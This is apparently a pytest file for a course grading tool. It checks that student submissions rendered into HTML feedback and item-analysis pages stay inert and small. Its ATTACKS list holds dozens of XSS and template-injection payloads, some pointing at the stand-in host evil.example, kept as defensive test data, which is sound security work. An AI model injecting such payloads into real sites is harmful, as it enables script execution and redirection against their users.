"""Whatever a submission holds, the pages stay inert and small."""

import re
from pathlib import Path

import pytest

from llm_course.classroom.grade.marking.report import Fault, Output
from llm_course.classroom.grade.outputs.feedback import LARGEST, render_feedback
from llm_course.classroom.grade.outputs.items_page import render_items
from llm_course.classroom.grade.records.override import Override

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>1</script>'></object>",
    "<embed src='//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=x autofocus onfocus=alert(1)></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='vbscript:x' onmouseover=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</code></pre></details></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onclick="alert(1)" x="',
    "' style='background:url(//evil.example)' x='",
    "{{ 7 * 7 }}{% for x in y %}",
    "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\x1b[31m<b>\x1b[0m",
    "\u202etpircs\u202c<b>",
    "<\x00script>alert(1)</scri\x00pt>",
    "\ud83c<script>\udf89",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "`${alert(1)}`",
    "<style>*{display:none}</style>",
    "<plaintext>",
    "<textarea><noscript><xmp>",
]

TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "section", "article", "footer",
    "h1", "h2", "h3", "p", "div", "span", "strong", "bdi", "a", "ul", "li", "code", "pre",
    "details", "summary", "table", "caption", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SVG = {"figure", "svg", "defs", "g", "path", "use", "clippath", "rect", "style"}
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "aria-label", "aria-hidden",
    "style", "scope", "dir", "tabindex", "open", "href", "rel", "role", "data-label",
}  # fmt: skip


def everywhere(made, text):
    """Reports with the text in every field, and everything else that a page is made from."""
    faults = (Fault(name=text, message=text, cost=True), Fault(name=text, message=text))
    question = made.question(
        text,
        [made.test(text, 0, 2, message=text), made.test(text, 2, 2, hidden=True, message=text)],
        title=f"{text}.",
        answer=f'x = 1\n{text}\n\'{text}\'\n# {text}\n"""{text}',
        misconception=text,
        misconception_name=text,
        link=text,
        faults=faults,
    )
    report = made.report(
        text,
        [question, made.question("ex-2", title=text, link=f"https://a.example/{text}")],
        chapter=text,
        notebook=text,
        faults=faults,
        outputs=(Output(cell=text, text=text),),
        submission_hash=text,
        grader_hash=text,
    )
    override = Override(student=text, chapter=text, exercise="ex-2", points=1, reason=f"!{text}")
    return [report], override


def feedback(made, text):
    reports, override = everywhere(made, text)
    return render_feedback(
        text,
        reports,
        roster={text: f"name {text}"},
        penalties={(text, text): 0.5},
        overrides=[override],
        book="https://example.org/book",
        titles={f"{text}/{text}": text},
    )


def items(made, text):
    reports, _ = everywhere(made, text)
    return render_items(
        [*reports, *everywhere(made, f"{text}2")[0]], titles={f"{text}/{text}": text}
    )


def inert(page, tags, attributes):
    """Fails unless a page holds nothing but our tags, with nothing that runs or loads."""
    assert {tag for tag, _ in page.tags} <= tags
    for tag, found in page.tags:
        assert set(found) <= attributes, f"{tag}: {set(found) - attributes}"
        assert not any(name.startswith("on") or name in ("src", "srcdoc") for name in found)
        if tag == "a":
            assert re.fullmatch(r"https://(a\.example|example\.org)/[\w/.#-]*", found["href"])
        if tag == "span" and "style" in found:
            assert re.fullmatch(r"width:\d{1,3}%", found["style"])
    metas = [found for tag, found in page.tags if tag == "meta"]
    assert [m["http-equiv"] for m in metas if "http-equiv" in m] == ["Content-Security-Policy"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_submission_becomes_part_of_the_feedback_page(made, parsed, attack):
    page = feedback(made, attack)
    inert(parsed(page), TAGS, ATTRIBUTES)
    assert len(page.encode()) < LARGEST
    assert not re.search("[\x00\x1b\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page)


READABLE = [attack for attack in ATTACKS if not re.search("[\x00\x1b\u202e\ud83c]", attack)]


@pytest.mark.parametrize("attack", READABLE)
def test_what_is_written_is_what_is_read(made, parsed, attack):
    text = parsed(feedback(made, attack)).text
    # The answer's four forms, an output, messages, faults, names: the text is there, as text.
    assert text.count(attack) > 12


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_becomes_part_of_the_item_analysis(made, parsed, attack):
    page = parsed(items(made, attack))
    drawn = {name for tag, found in page.tags if tag in SVG for name in found}
    inert(page, TAGS | SVG, ATTRIBUTES | drawn)
    hrefs = [found.get("xlink:href", "#") for _, found in page.tags]
    assert all(href.startswith("#fig-") or href == "#" for href in hrefs)
    assert not any(name.startswith("on") for name in drawn)


def test_there_are_enough_attacks():
    assert len(set(ATTACKS)) >= 40


FILLINGS = ['"', "&", "🎉", "x = '", "a\n", "\x1b[31m", "\u0301", "( ", "f'{", "\r", " ", "\x00"]


@pytest.mark.parametrize("filling", FILLINGS)
def test_ten_megabytes_in_every_field_make_a_small_page(made, parsed, filling):
    text = filling * (10_000_000 // len(filling))
    page = feedback(made, text)
    assert len(page.encode()) <= LARGEST
    parsed(page)
    assert len(items(made, text)) < 600_000


@pytest.mark.parametrize("filling", ['"', "🎉", "x"])
def test_many_of_everything_make_a_small_page(made, parsed, filling):
    text = filling * 10_000
    fault = Fault(name=text, message=text, cost=True)
    question = made.question(
        text,
        [made.test(text, 1, 2, hidden=True, message=text)] * 50,
        title=f"{text}.",
        answer=text,
        optional=True,
        misconception=text,
        link="a" * 199,
        faults=(fault,) * 50,
    )
    reports = [
        made.report(
            text,
            [question] * 100,
            chapter=f"{number:03d}{text}",
            notebook=text,
            faults=(fault,) * 50,
            outputs=(Output(cell=text, text=text),) * 100,
            submission_hash=text,
        )
        for number in range(300)
    ]
    late = {(report.student, report.chapter): 0.25 for report in reports}
    overrides = [
        Override(student=text, chapter=r.chapter, exercise=text, points=1, reason=text)
        for r in reports[:20]
    ]
    page = render_feedback(
        text,
        reports,
        roster={text: f"{text}!"},
        penalties=late,
        overrides=overrides,
        book="https://example.org/" + "b" * 180,
    )
    assert len(page.encode()) <= LARGEST
    words = parsed(page).words
    assert "more exercises are not shown" in words and "more notebooks are not shown" in words


def test_hostile_pages_still_reach_the_disk(made, tmp_path):
    path = Path(tmp_path / "page.html")
    path.write_text(feedback(made, "\ud800\x00\u202e"), encoding="utf-8")
    assert path.stat().st_size < LARGEST
